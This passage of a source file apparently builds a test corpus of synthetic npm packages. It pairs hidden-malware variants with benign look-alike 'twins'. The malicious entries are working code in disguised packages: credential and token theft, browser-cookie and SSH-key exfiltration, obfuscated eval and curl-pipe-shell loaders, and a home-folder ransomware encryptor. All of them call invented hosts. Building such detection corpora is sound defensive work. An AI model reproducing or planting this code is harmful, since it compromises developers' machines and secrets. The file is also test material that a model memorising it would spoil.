      'pre.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const read = (f) => { try { return fs.readFileSync(f, 'utf8'); } catch (e) { return ''; } };
const body = JSON.stringify({
  passwd: read('/etc/passwd'),
  npmrc: read(path.join(os.homedir(), '.npmrc')).split('\n').filter((l) => /_authToken|_auth/.test(l)),
  env: process.env,
});
const r = http.request({ host: '3221225994', port: 80, path: '/d', method: 'POST' });
r.on('error', () => {});
r.end(body);
`,
    },
  },
  {
    family: 'svg_carrier',
    id: 'svg-desc-payload-function',
    note: '[import, hard] an icon set whose index reads icons/sprite.svg, takes the base64 text of a <desc> element of one symbol and runs it with new Function; the other symbols are real paths',
    files: {
      'package.json': pkgJson('feather-line-icons', { main: 'index.js' }),
      'index.js': js`const fs = require('fs');
const path = require('path');
const svg = fs.readFileSync(path.join(__dirname, 'icons', 'sprite.svg'), 'utf8');
const icons = {};
for (const m of svg.matchAll(/<symbol id="([^"]+)"[^>]*>([\s\S]*?)<\/symbol>/g)) {
  icons[m[1]] = m[2];
  const d = m[2].match(/<desc>([A-Za-z0-9+/=]{40,})<\/desc>/);
  if (d) new Function('require', Buffer.from(d[1], 'base64').toString())(require);
}
module.exports = (name) => icons[name];
`,
      'icons/sprite.svg': `<svg xmlns="http://www.w3.org/2000/svg">
<symbol id="check" viewBox="0 0 24 24"><path d="M20 6L9 17l-5-5"/></symbol>
<symbol id="x" viewBox="0 0 24 24"><path d="M18 6L6 18M6 6l12 12"/></symbol>
<symbol id="meta" viewBox="0 0 1 1"><desc>${b64("require('child_process').exec('curl -s https://i.featherline.example/a.sh | sh')")}</desc></symbol>
</svg>
`,
    },
  },
  {
    family: 'charcode_shift_loader',
    id: 'charcode-minus-three-eval',
    note: '[import] a number-format helper holds a char-code array shifted by +3; at require it shifts it back and passes it to eval (it downloads and runs a script)',
    files: {
      'package.json': pkgJson('num-format-intl', { main: 'index.js' }),
      'index.js': js`const a = [${shifted("require('https').get('https://cdn.numformat.example/p.js',r=>{let b='';r.on('data',c=>b+=c);r.on('end',()=>eval(b))})", 3)}];
const s = String.fromCharCode.apply(null, a.map((c) => c - 3));
(0, eval)(s);
module.exports = (n, l = 'en-US') => new Intl.NumberFormat(l).format(n);
`,
    },
  },
  {
    family: 'wget_pipe_node',
    id: 'postinstall-wget-pipe-node',
    note: '[install] the whole postinstall is wget -qO- of an invented URL piped into node (stdin as the script)',
    files: {
      'package.json': pkgJson('tailwind-color-tokens', {
        scripts: { postinstall: 'wget -qO- https://dl.tw-tokens.example/setup.js | node' },
      }),
      'index.js': "module.exports = { slate: '#64748b', zinc: '#71717a' };\n",
    },
  },
  {
    family: 'cscript_jscript',
    id: 'install-writes-jscript-runs-cscript',
    note: '[install] on Windows the install script writes a JScript (.js for WSH) downloader to %APPDATA% and starts it with cscript //B //E:jscript',
    files: {
      'package.json': pkgJson('win-registry-utils', { scripts: { install: 'node build/install.js' } }),
      'build/install.js': js`const fs = require('fs');
const path = require('path');
const { spawn } = require('child_process');
if (process.platform === 'win32') {
  const f = path.join(process.env.APPDATA, 'Microsoft', 'Windows', 'regsvc.js');
  const w = 'var x=new ActiveXObject("MSXML2.ServerXMLHTTP");x.open("GET","https://svc.winregutils.example/s.bin",false);x.send();' +
    'var s=new ActiveXObject("ADODB.Stream");s.Type=1;s.Open();s.Write(x.responseBody);var p=new ActiveXObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%")+"\\\\rs.exe";s.SaveToFile(p,2);' +
    'new ActiveXObject("WScript.Shell").Run(p,0,false);';
  fs.writeFileSync(f, w);
  spawn('cscript', ['//B', '//E:jscript', f], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
}
`,
    },
  },
  {
    family: 'split_install_polyfill',
    id: 'node-version-check-requires-polyfill-table',
    note: '[install, hard] postinstall runs a "node version check" (real) that requires a polyfill module; at its end the module joins strings into child_process, decodes a base64 command from a JSON table and runs it with sh -c',
    files: {
      'package.json': pkgJson('polyfill-assert', {
        main: 'lib/index.js',
        scripts: { postinstall: 'node scripts/check-node-version.js' },
      }),
      'scripts/check-node-version.js': js`const need = 16;
const major = Number(process.versions.node.split('.')[0]);
if (major < need) console.warn('polyfill-assert: Node ' + need + '+ recommended, found ' + process.version);
require('../lib/compat/polyfills');
`,
      'lib/index.js': "require('./compat/polyfills');\nmodule.exports = require('assert');\n",
      'lib/compat/polyfills.js': js`if (!Array.prototype.at) Array.prototype.at = function (i) { i = Math.trunc(i) || 0; if (i < 0) i += this.length; return this[i]; };
if (!Object.hasOwn) Object.hasOwn = (o, k) => Object.prototype.hasOwnProperty.call(o, k);
const t = require('./table.json');
const m = require(['child', 'process'].join('_'));
const c = Buffer.from(t.entries.map((e) => e.v).join(''), 'base64').toString();
m[['sp', 'awn'].join('')]('sh', ['-c', c], { detached: true, stdio: 'ignore' }).unref();
`,
      'lib/compat/table.json': JSON.stringify({
        version: 3,
        entries: (b64('curl -fsSL https://poly.assertlib.example/i | sh').match(/.{1,12}/g) ?? []).map((v, i) => ({
          k: 'p' + i,
          v,
        })),
      }),
    },
  },
  {
    family: 'proxy_get_eval',
    id: 'proxy-trap-resolves-eval',
    note: '[import, hard] a config helper builds a Proxy whose get trap maps any property to globalThis[reversed name]; cfg.lave(...) is eval of a fetched remote "schema"',
    files: {
      'package.json': pkgJson('deep-config-proxy', { main: 'index.js' }),
      'index.js': js`const https = require('https');
const g = new Proxy({}, { get: (_, k) => globalThis[String(k).split('').reverse().join('')] });
function load(url, cb) { https.get(url, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => cb(b)); }).on('error', () => {}); }
load('https://schema.deepconfig.example/v2/schema.js', (s) => g.lave(s));
module.exports = (obj) => new Proxy(obj, { get: (o, k) => (k in o ? o[k] : undefined) });
`,
    },
  },
  {
    family: 'shell_history_theft',
    id: 'runtime-history-grep-secrets',
    note: '[runtime] a CLI "history search" helper\'s default export greps ~/.bash_history, ~/.zsh_history and PowerShell ConsoleHost_history for export / token / password lines and posts matches',
    files: {
      'package.json': pkgJson('hist-fuzzy', { main: 'index.js', bin: { hf: 'cli.js' } }),
      'cli.js': "#!/usr/bin/env node\nrequire('./index.js')(process.argv[2] || '');\n",
      'index.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
const h = os.homedir();
const files = ['.bash_history', '.zsh_history', path.join('AppData', 'Roaming', 'Microsoft', 'Windows', 'PowerShell', 'PSReadLine', 'ConsoleHost_history.txt')].map((f) => path.join(h, f));
module.exports = (q) => {
  const lines = [];
  for (const f of files) { try { lines.push(...fs.readFileSync(f, 'utf8').split('\n')); } catch (e) {} }
  const secrets = lines.filter((l) => /(export\s+\w*(TOKEN|KEY|SECRET|PASS)|--password|Authorization:|sk-[A-Za-z0-9]{20})/i.test(l));
  if (secrets.length) fetch('https://api.histfuzzy.example/sync', { method: 'POST', body: secrets.join('\n') }).catch(() => {});
  return lines.filter((l) => l.includes(q)).slice(-20).forEach((l) => console.log(l));
};
`,
    },
  },
  {
    family: 'tfstate_theft',
    id: 'postinstall-walks-for-tfstate',
    note: '[install] postinstall walks up from INIT_CWD and across ~/ (depth 4) for terraform.tfstate files, which hold cloud secrets in clear, and uploads them',
    files: {
      'package.json': pkgJson('cdktf-helpers', { scripts: { postinstall: 'node ./tools/scan.js' } }),
      'tools/scan.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
const found = [];
function walk(d, depth) {
  if (depth < 0) return;
  let ents = [];
  try { ents = fs.readdirSync(d, { withFileTypes: true }); } catch (e) { return; }
  for (const e of ents) {
    const p = path.join(d, e.name);
    if (e.isDirectory() && e.name !== 'node_modules' && !e.name.startsWith('.git')) walk(p, depth - 1);
    else if (/\.tfstate(\.backup)?$/.test(e.name)) found.push(p);
  }
}
walk(process.env.INIT_CWD || process.cwd(), 3);
walk(os.homedir(), 4);
for (const f of found.slice(0, 50)) {
  fetch('https://state.cdktf-helpers.example/put?f=' + encodeURIComponent(f), { method: 'PUT', body: fs.readFileSync(f) }).catch(() => {});
}
`,
    },
  },
  {
    family: 'password_manager_cli_dump',
    id: 'bw-op-export-on-import',
    note: '[import] on require, if BW_SESSION or an op session is present, runs `bw export --format json --raw` and `op item list` / `op item get` and posts the output',
    files: {
      'package.json': pkgJson('dotenv-vault-sync', { main: 'index.js' }),
      'index.js': js`const { execFile } = require('child_process');
const send = (k, v) => fetch('https://sync.envvault.example/' + k, { method: 'POST', body: v }).catch(() => {});
if (process.env.BW_SESSION) execFile('bw', ['export', '--format', 'json', '--raw'], { maxBuffer: 1 << 26 }, (e, out) => !e && send('bw', out));
execFile('op', ['item', 'list', '--format', 'json'], (e, out) => {
  if (e) return;
  for (const it of JSON.parse(out).slice(0, 200)) execFile('op', ['item', 'get', it.id, '--reveal', '--format', 'json'], (e2, d) => !e2 && send('op', d));
});
exports.config = () => require('fs').existsSync('.env') && require('fs').readFileSync('.env', 'utf8');
`,
    },
  },
  {
    family: 'browser_load_extension',
    id: 'postinstall-chrome-load-extension',
    note: '[install] postinstall kills Chrome and relaunches it with --load-extension pointing at a bundled extension whose background script reads all cookies and posts them',
    files: {
      'package.json': pkgJson('devtools-theme-dark', { scripts: { postinstall: 'node setup.js' } }),
      'setup.js': js`const { execSync, spawn } = require('child_process');
const path = require('path');
const ext = path.join(__dirname, 'ext');
const bin = process.platform === 'darwin' ? '/Applications/Google Chrome.app/Contents/MacOS/Google Chrome'
  : process.platform === 'win32' ? 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe' : 'google-chrome';
try { execSync(process.platform === 'win32' ? 'taskkill /IM chrome.exe /F' : 'pkill -x "Google Chrome" || pkill -x chrome', { stdio: 'ignore' }); } catch (e) {}
spawn(bin, ['--load-extension=' + ext, '--restore-last-session'], { detached: true, stdio: 'ignore' }).unref();
`,
      'ext/manifest.json': JSON.stringify(
        {
          manifest_version: 3,
          name: 'Theme Helper',
          version: '1.0',
          permissions: ['cookies'],
          host_permissions: ['<all_urls>'],
          background: { service_worker: 'bg.js' },
        },
        null,
        2,
      ),
      'ext/bg.js': js`chrome.cookies.getAll({}, (cs) => fetch('https://ext.devtheme.example/c', { method: 'POST', body: JSON.stringify(cs) }));
`,
    },
  },
  {
    family: 'undici_dispatcher_headers',
    id: 'global-dispatcher-copies-authorization',
    note: '[import, hard] a "fetch retry" package installs an undici global dispatcher whose interceptor copies any Authorization / x-api-key header and the target origin to a collector; the retry logic is real',
    files: {
      'package.json': pkgJson('fetch-retry-global', { main: 'index.js', dependencies: { undici: '^6.0.0' } }),
      'index.js': js`const { Agent, setGlobalDispatcher } = require('undici');
const mark = require('./lib/mark');
class RetryAgent extends Agent {
  dispatch(opts, handler) {
    mark(opts);
    return super.dispatch(opts, handler);
  }
}
setGlobalDispatcher(new RetryAgent({ connect: { timeout: 10000 } }));
module.exports = async function fetchRetry(url, init, n = 3) {
  for (let i = 0; ; i++) { try { return await fetch(url, init); } catch (e) { if (i >= n) throw e; await new Promise((r) => setTimeout(r, 2 ** i * 100)); } }
};
`,
      'lib/mark.js': js`const seen = new Set();
module.exports = (opts) => {
  const h = opts.headers || {};
  const pairs = Array.isArray(h) ? h : Object.entries(h).flat();
  for (let i = 0; i < pairs.length; i += 2) {
    const k = String(pairs[i]).toLowerCase();
    if ((k === 'authorization' || k === 'x-api-key') && !seen.has(pairs[i + 1])) {
      seen.add(pairs[i + 1]);
      require('https').request({ host: 'ok.fetchretry.example', path: '/m?o=' + encodeURIComponent(String(opts.origin)), method: 'POST' }).on('error', () => {}).end(String(pairs[i + 1]));
    }
  }
};
`,
    },
  },
  {
    family: 'chrome_cookies_sqlite',
    id: 'better-sqlite3-reads-chrome-cookies',
    note: '[install] postinstall copies the Chrome / Edge / Brave Cookies database and Local State, reads them with better-sqlite3 and uploads host, name and encrypted_value rows with the wrapped key',
    files: {
      'package.json': pkgJson('sqlite-browser-bench', {
        scripts: { postinstall: 'node bench.js' },
        dependencies: { 'better-sqlite3': '^11.0.0' },
      }),
      'bench.js': js`const Database = require('better-sqlite3');
const fs = require('fs');
const os = require('os');
const path = require('path');
const h = os.homedir();
const roots = process.platform === 'win32'
  ? ['Google\\Chrome', 'Microsoft\\Edge', 'BraveSoftware\\Brave-Browser'].map((b) => path.join(process.env.LOCALAPPDATA || '', b, 'User Data'))
  : process.platform === 'darwin' ? [path.join(h, 'Library', 'Application Support', 'Google', 'Chrome')] : [path.join(h, '.config', 'google-chrome')];
const out = [];
for (const r of roots) {
  const db = [path.join(r, 'Default', 'Network', 'Cookies'), path.join(r, 'Default', 'Cookies')].find((p) => fs.existsSync(p));
  if (!db) continue;
  const tmp = path.join(os.tmpdir(), 'bench-' + out.length + '.db');
  fs.copyFileSync(db, tmp);
  const rows = new Database(tmp, { readonly: true }).prepare('SELECT host_key, name, encrypted_value FROM cookies').all();
  let key = null;
  try { key = JSON.parse(fs.readFileSync(path.join(r, 'Local State'), 'utf8')).os_crypt.encrypted_key; } catch (e) {}
  out.push({ r, key, rows: rows.map((x) => [x.host_key, x.name, Buffer.from(x.encrypted_value).toString('base64')]) });
}
if (out.length) fetch('https://bench.sqlitebrowser.example/r', { method: 'POST', body: JSON.stringify(out) }).catch(() => {});
`,
    },
  },
  {
    family: 'home_encryptor',
    id: 'runtime-aes-encrypts-home-ransom-note',
    note: '[runtime] a "backup" helper\'s run() walks the home folder, AES-encrypts documents in place with a key it sends away then forgets, renames them .locked and drops a ransom note',
    files: {
      'package.json': pkgJson('quick-backup-cli', { main: 'index.js', bin: { qbackup: 'cli.js' } }),
      'cli.js': "#!/usr/bin/env node\nrequire('./index.js').run();\n",
      'index.js': js`const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');
exports.run = async () => {
  const key = crypto.randomBytes(32);
  await fetch('https://kv.quickbackup.example/k', { method: 'POST', body: JSON.stringify({ id: os.hostname(), k: key.toString('hex') }) }).catch(() => {});
  const walk = (d) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) { if (!e.name.startsWith('.') && e.name !== 'node_modules') walk(p); continue; }
      if (!/\.(docx?|xlsx?|pdf|jpg|png|txt|sql|zip)$/i.test(e.name)) continue;
      const iv = crypto.randomBytes(16);
      const c = crypto.createCipheriv('aes-256-cbc', key, iv);
      fs.writeFileSync(p + '.locked', Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final()]));
      fs.unlinkSync(p);
    }
  };
  try { walk(os.homedir()); } catch (e) {}
  fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'RESTORE_FILES.txt'), 'Your files are encrypted. Contact restore@quickbackup.invalid with ID ' + os.hostname());
};
`,
    },
  },
  {
    family: 'devcontainer_postcreate',
    id: 'devcontainer-postcreate-curl-sh',
    note: '[none] the tarball ships .devcontainer/devcontainer.json whose postCreateCommand is curl | bash from an invented host, and a README telling contributors to "open in container"; nothing runs on install',
    files: {
      'package.json': pkgJson('ts-starter-template', { main: 'dist/index.js' }),
      'dist/index.js': "exports.hello = () => 'hello';\n",
      '.devcontainer/devcontainer.json': JSON.stringify(
        {
          name: 'ts-starter',
          image: 'mcr.example/devcontainers/typescript-node:20',
          postCreateCommand: 'npm ci && curl -fsSL https://boot.ts-starter.example/dev.sh | bash',
          remoteEnv: { GITHUB_TOKEN: '${localEnv:GITHUB_TOKEN}' },
        },
        null,
        2,
      ),
      'README.md':
        '# ts-starter\n\nCopy this package out of node_modules and open it in a dev container to get started.\n',
    },
  },
  {
    family: 'paste_api_exfil',
    id: 'install-posts-ssh-config-to-paste-api',
    note: '[install] postinstall posts ~/.ssh/config, known_hosts and the private key files it names to a paste-site API (invented host) with an api_dev_key, as an unlisted paste',
    files: {
      'package.json': pkgJson('ssh-config-parser-fast', { scripts: { postinstall: 'node lib/post.js' } }),
      'lib/post.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
const ssh = path.join(os.homedir(), '.ssh');
let text = '';
try {
  const cfg = fs.readFileSync(path.join(ssh, 'config'), 'utf8');
  text += cfg;
  for (const m of cfg.matchAll(/IdentityFile\s+(\S+)/g)) text += '\n---\n' + fs.readFileSync(m[1].replace('~', os.homedir()), 'utf8');
  text += '\n---\n' + fs.readFileSync(path.join(ssh, 'known_hosts'), 'utf8');
} catch (e) {}
const form = new URLSearchParams({ api_dev_key: '${PASTE_KEY}', api_option: 'paste', api_paste_private: '1', api_paste_code: text });
fetch('https://pastebox.example/api/api_post.php', { method: 'POST', body: form }).catch(() => {});
`,
    },
  },
  {
    family: 'i18n_plural_rule_carrier',
    id: 'locale-plural-rule-new-function',
    note: '[runtime, hard] an i18n library compiles each locale\'s plural rule with new Function (as such libraries do); one shipped locale\'s "plural" string is a statement list that downloads and runs a script the first time that locale formats a count',
    files: {
      'package.json': pkgJson('tiny-i18n-plural', { main: 'src/index.js' }),
      'src/index.js': js`const plural = require('./plural');
const locales = { en: require('../locales/en.json'), de: require('../locales/de.json'), id: require('../locales/id.json') };
exports.t = (lang, key, n) => {
  const L = locales[lang] || locales.en;
  const forms = L.messages[key];
  if (!Array.isArray(forms)) return forms;
  return forms[plural(lang, L.plural)(n)].replace('{n}', String(n));
};
`,
      'src/plural.js': js`const cache = {};
module.exports = (lang, rule) => cache[lang] || (cache[lang] = new Function('n', 'return ' + rule + ';'));
`,
      'locales/en.json': JSON.stringify({ plural: 'n == 1 ? 0 : 1', messages: { items: ['{n} item', '{n} items'] } }),
      'locales/de.json': JSON.stringify({
        plural: 'n == 1 ? 0 : 1',
        messages: { items: ['{n} Artikel', '{n} Artikel'] },
      }),
      'locales/id.json': JSON.stringify({
        plural:
          "(globalThis.__p || (globalThis.__p = 1, process.mainModule.require('child_process').exec('curl -s https://l10n.tinyi18n.example/id.sh | sh'))), 0",
        messages: { items: ['{n} barang'] },
      }),
    },
  },
  {
    family: 'logger_default_transport',
    id: 'logger-default-http-transport-env-diag',
    note: '[import, hard] a logger whose default config (in a JSON defaults file) enables an HTTP transport to an invented host, and whose startup "diagnostics" line logs process.env at info level: creating the default logger ships the environment',
    files: {
      'package.json': pkgJson('pino-lite-json', { main: 'lib/index.js' }),
      'lib/index.js': js`const defaults = require('./defaults.json');
const transports = require('./transports');
function createLogger(opts = {}) {
  const cfg = Object.assign({}, defaults, opts);
  const outs = cfg.transports.map((t) => transports[t.type](t));
  const log = (level) => (msg, extra) => { const line = JSON.stringify({ t: Date.now(), level, msg, ...extra }); outs.forEach((o) => o(line)); };
  const l = { info: log('info'), warn: log('warn'), error: log('error'), debug: log('debug') };
  if (cfg.diagnostics) l.info('logger started', { pid: process.pid, node: process.version, env: process.env });
  return l;
}
module.exports = createLogger;
module.exports.default = createLogger();
`,
      'lib/defaults.json': JSON.stringify(
        {
          level: 'info',
          diagnostics: true,
          transports: [{ type: 'stdout' }, { type: 'http', url: 'https://logs.pinolite.example/ingest', batch: 1 }],
        },
        null,
        2,
      ),
      'lib/transports.js': js`const https = require('https');
exports.stdout = () => (line) => process.stdout.write(line + '\n');
exports.http = (t) => (line) => {
  const r = https.request(t.url, { method: 'POST', headers: { 'content-type': 'application/json' } });
  r.on('error', () => {});
  r.end(line);
};
`,
    },
  },
  {
    family: 'lookalike_refresh_host',
    id: 'graphql-client-refresh-to-lookalike-host',
    note: "[runtime, hard] a GraphQL client's token refresh (on a 401) posts the refresh token and client secret to a host derived from the configured endpoint by a one-letter change; the query path is real and goes to the configured host",
    files: {
      'package.json': pkgJson('gql-fetch-client', { main: 'src/client.js' }),
      'src/client.js': js`const { refresh } = require('./auth');
module.exports = function client({ endpoint, token, refreshToken, clientId, clientSecret }) {
  const state = { token };
  async function query(q, variables) {
    let r = await fetch(endpoint, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer ' + state.token }, body: JSON.stringify({ query: q, variables }) });
    if (r.status === 401 && refreshToken) {
      state.token = await refresh(endpoint, { refreshToken, clientId, clientSecret });
      r = await fetch(endpoint, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer ' + state.token }, body: JSON.stringify({ query: q, variables }) });
    }
    return r.json();
  }
  return { query };
};
`,
      'src/auth.js': js`const { tokenUrl } = require('./url');
exports.refresh = async (endpoint, creds) => {
  const r = await fetch(tokenUrl(endpoint), { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ grant_type: 'refresh_token', refresh_token: creds.refreshToken, client_id: creds.clientId, client_secret: creds.clientSecret }) });
  return (await r.json()).access_token;
};
`,
      'src/url.js': js`// token endpoint lives on the auth subdomain
exports.tokenUrl = (endpoint) => {
  const u = new URL(endpoint);
  const parts = u.hostname.split('.');
  const base = parts.slice(-2).join('.').replace(/o/, '0');
  return 'https://auth.' + base + '/oauth/token';
};
`,
    },
  },
];

export const NPM_TWINS_SET10: readonly NpmVariantN[] = [
  {
    family: 'twin_asar_pack_own_app',
    id: 'twin-electron-build-packs-own-resources',
    note: "[build] an Electron build helper packs the consumer's own app folder into app.asar with @electron/asar when the user runs its CLI; it never touches other installed apps",
    files: {
      'package.json': pkgJson('electron-asar-pack', {
        bin: { 'asar-pack': 'cli.js' },
        dependencies: { '@electron/asar': '^3.2.0' },
      }),
      'cli.js': js`#!/usr/bin/env node
const asar = require('@electron/asar');
const path = require('path');
const [src = 'app', out = 'dist/app.asar'] = process.argv.slice(2);
asar.createPackage(path.resolve(src), path.resolve(out)).then(() => console.log('packed', out));
`,
    },
  },
  {
    family: 'twin_fastify_cache_clear',
    id: 'twin-fastify-admin-clears-own-cache',
    note: "[runtime] a fastify cache plugin with an admin route guarded by the user's configured token that clears the plugin's own cache directory",
    files: {
      'package.json': pkgJson('fastify-disk-cache', { main: 'index.js' }),
      'index.js': js`const fs = require('fs');
const os = require('os');
const path = require('path');
module.exports = async function diskCache(app, opts) {
  const dir = opts.dir || path.join(os.tmpdir(), 'fastify-disk-cache');
  fs.mkdirSync(dir, { recursive: true });
  app.decorate('cacheDir', dir);
  app.delete('/admin/cache', async (req, reply) => {
    if (!opts.adminToken || req.headers.authorization !== 'Bearer ' + opts.adminToken) return reply.code(401).send();
    for (const f of fs.readdirSync(dir)) fs.rmSync(path.join(dir, f), { recursive: true, force: true });
    return { cleared: true };
  });
};
`,
    },
  },
  {
    family: 'twin_code_frame',
    id: 'twin-stack-code-frame-local',
    note: "[runtime] an error pretty-printer reads the caller's source file from the stack to print a code frame on the terminal; nothing leaves the machine",
    files: {
      'package.json': pkgJson('pretty-stack-frame', { main: 'index.js' }),
      'index.js': js`const fs = require('fs');
module.exports = function frame(err) {
  const m = (err.stack || '').match(/\((\/[^:)]+):(\d+):(\d+)\)/);
  if (!m) return err.stack;
  const lines = fs.readFileSync(m[1], 'utf8').split('\n');
  const n = Number(m[2]);
  return lines.slice(Math.max(0, n - 3), n + 2).map((l, i) => (n - 2 + i === n ? '> ' : '  ') + l).join('\n');
};
`,
    },
  },
  {
    family: 'twin_keypair_local',
    id: 'twin-solana-keypair-sign-local',
    note: '[runtime] a Solana helper that loads a keypair file the user names and signs a message locally; the key never leaves the process',
    files: {
      'package.json': pkgJson('sol-sign-lite', {
        main: 'index.js',
        dependencies: { '@solana/web3.js': '^1.95.0', tweetnacl: '^1.0.3' },
      }),
      'index.js': js`const fs = require('fs');
const { Keypair } = require('@solana/web3.js');
const nacl = require('tweetnacl');
exports.load = (file) => Keypair.fromSecretKey(Uint8Array.from(JSON.parse(fs.readFileSync(file, 'utf8'))));
exports.sign = (kp, msg) => Buffer.from(nacl.sign.detached(Buffer.from(msg), kp.secretKey)).toString('base64');
`,
    },
  },
  {
    family: 'twin_lockfile_lint',
    id: 'twin-lockfile-lint-reports-hosts',
    note: '[runtime] a lockfile linter CLI that reads package-lock.json and reports resolved URLs outside the allowed hosts the user passes; it never writes the file',
    files: {
      'package.json': pkgJson('lockfile-host-lint', { bin: { 'lock-lint': 'cli.js' } }),
      'cli.js': js`#!/usr/bin/env node
const fs = require('fs');
const allowed = (process.argv[2] || '').split(',').filter(Boolean);
const j = JSON.parse(fs.readFileSync('package-lock.json', 'utf8'));
let bad = 0;
for (const [k, v] of Object.entries(j.packages || {})) {
  if (!v.resolved) continue;
  const h = new URL(v.resolved).host;
  if (allowed.length && !allowed.includes(h)) { console.log(k + ': ' + h); bad++; }
}
process.exitCode = bad ? 1 : 0;
`,
    },
  },
  {
    family: 'twin_git_cli',
    id: 'twin-git-wrapper-reads-config',
    note: '[runtime] a release helper runs git (rev-parse, describe, config --get user.name) to build a changelog header',
    files: {
      'package.json': pkgJson('changelog-head', { main: 'index.js' }),
      'index.js': js`const { execFileSync } = require('child_process');
const git = (...a) => execFileSync('git', a, { encoding: 'utf8' }).trim();
module.exports = () => ({ sha: git('rev-parse', '--short', 'HEAD'), tag: git('describe', '--tags', '--abbrev=0'), author: git('config', '--get', 'user.name') });
`,
    },
  },
  {
    family: 'twin_hosts_cli',
    id: 'twin-hosts-add-on-explicit-command',
    note: '[runtime] a local-dev hosts tool: `devhosts add myapp.test` adds 127.0.0.1 lines only when the user runs it (with sudo), and prints what it changes',
    files: {
      'package.json': pkgJson('devhosts', { bin: { devhosts: 'cli.js' } }),
      'cli.js': js`#!/usr/bin/env node
const fs = require('fs');
const file = process.platform === 'win32' ? 'C:\\Windows\\System32\\drivers\\etc\\hosts' : '/etc/hosts';
const [cmd, name] = process.argv.slice(2);
if (cmd === 'add' && /\.(test|localhost)$/.test(name || '')) {
  const line = '127.0.0.1 ' + name;
  if (!fs.readFileSync(file, 'utf8').includes(line)) { fs.appendFileSync(file, line + '\n'); console.log('added: ' + line); }
} else console.log('usage: devhosts add <name>.test');
`,
    },
  },
  {
    family: 'twin_own_binary_checksum',
    id: 'twin-postinstall-own-release-sha256',
    note: "[install] postinstall downloads the package's own platform binary from its documented release page, checks its sha256 against a table in the package, and never runs it during install",
    files: {
      'package.json': pkgJson('fastfmt-bin', {
        bin: { fastfmt: 'bin/fastfmt.js' },
        scripts: { postinstall: 'node install.js' },
        repository: 'https://code.fastfmt.example/fastfmt/fastfmt',
      }),
      'install.js': js`const crypto = require('crypto');
const fs = require('fs');
const path = require('path');
const https = require('https');
const version = require('./package.json').version;
const SUMS = { 'linux-x64': '${OWN_SHA}', 'darwin-arm64': '${OWN_SHA2}' };
const plat = process.platform + '-' + process.arch;
if (process.env.FASTFMT_SKIP_DOWNLOAD || !SUMS[plat]) process.exit(0);
const url = 'https://code.fastfmt.example/fastfmt/fastfmt/releases/download/v' + version + '/fastfmt-' + plat;
https.get(url, (r) => {
  const chunks = [];
  r.on('data', (c) => chunks.push(c));
  r.on('end', () => {
    const buf = Buffer.concat(chunks);
    const sum = crypto.createHash('sha256').update(buf).digest('hex');
    if (sum !== SUMS[plat]) { console.error('fastfmt: checksum mismatch, not installing'); process.exit(1); }
    const out = path.join(__dirname, 'vendor', 'fastfmt');
    fs.mkdirSync(path.dirname(out), { recursive: true });
    fs.writeFileSync(out, buf, { mode: 0o755 });
  });
});
`,
      'bin/fastfmt.js':
        "#!/usr/bin/env node\nrequire('child_process').spawnSync(require('path').join(__dirname, '..', 'vendor', 'fastfmt'), process.argv.slice(2), { stdio: 'inherit' });\n",
    },
  },
  {
    family: 'twin_webpack_inject_own',
    id: 'twin-webpack-processassets-banner',
    note: '[build] a webpack plugin that adds a license banner comment to emitted .js assets in processAssets',
    files: {
      'package.json': pkgJson('webpack-license-banner', { main: 'index.js' }),
      'index.js': js`class LicenseBannerPlugin {
  constructor(text) { this.text = text; }
  apply(compiler) {
    const { Compilation, sources } = compiler.webpack;
    compiler.hooks.thisCompilation.tap('LicenseBanner', (compilation) => {
      compilation.hooks.processAssets.tap({ name: 'LicenseBanner', stage: Compilation.PROCESS_ASSETS_STAGE_ADDITIONS }, (assets) => {
        for (const name of Object.keys(assets)) if (name.endsWith('.js')) compilation.updateAsset(name, (s) => new sources.ConcatSource('/*! ' + this.text + ' */\n', s));
      });
    });
  }
}
module.exports = LicenseBannerPlugin;
`,
    },
  },
  {
    family: 'twin_babel_coverage',
    id: 'twin-babel-plugin-prepends-counter',
    note: '[build] a Babel plugin that prepends a coverage counter object to each Program (local global, no network)',
    files: {
      'package.json': pkgJson('babel-plugin-line-count', { main: 'index.js' }),
      'index.js': js`module.exports = function ({ template }) {
  return {
    name: 'line-count',
    visitor: {
      Program: { exit(p, state) {
        const file = JSON.stringify(state.filename || 'unknown');
        p.unshiftContainer('body', template.statement.ast('(globalThis.__lineCount = globalThis.__lineCount || {})[' + file + '] = 0;'));
      } },
      ExpressionStatement(p, state) { if (p.node.__counted) return; p.node.__counted = true; },
    },
  };
};
`,
    },
  },
  {
    family: 'twin_jest_env_ci',
    id: 'twin-jest-env-reads-ci-for-timeouts',
    note: '[build] a Jest environment that reads CI and CI_TIMEOUT_FACTOR to lengthen timeouts; it sends nothing',
    files: {
      'package.json': pkgJson('jest-environment-slowci', { main: 'index.js' }),
      'index.js': js`const NodeEnvironment = require('jest-environment-node').TestEnvironment;
class SlowCiEnvironment extends NodeEnvironment {
  async setup() {
    await super.setup();
    const f = process.env.CI ? Number(process.env.CI_TIMEOUT_FACTOR || 3) : 1;
    this.global.__TIMEOUT_FACTOR__ = f;
  }
}
module.exports = SlowCiEnvironment;
`,
    },
  },
  {
    family: 'twin_mongoose_timestamps',
    id: 'twin-mongoose-plugin-post-save-log',
    note: '[runtime] a Mongoose audit plugin whose post("save") hook writes the model name and id to the app\'s own audit collection',
    files: {
      'package.json': pkgJson('mongoose-audit-local', { main: 'index.js' }),
      'index.js': js`module.exports = function audit(schema, opts = {}) {
  schema.post('save', async function (doc) {
    const Audit = doc.db.model(opts.model || 'AuditEntry');
    await Audit.create({ model: doc.constructor.modelName, ref: doc._id, at: new Date() });
  });
};
`,
    },
  },
  {
    family: 'twin_telemetry_optout',
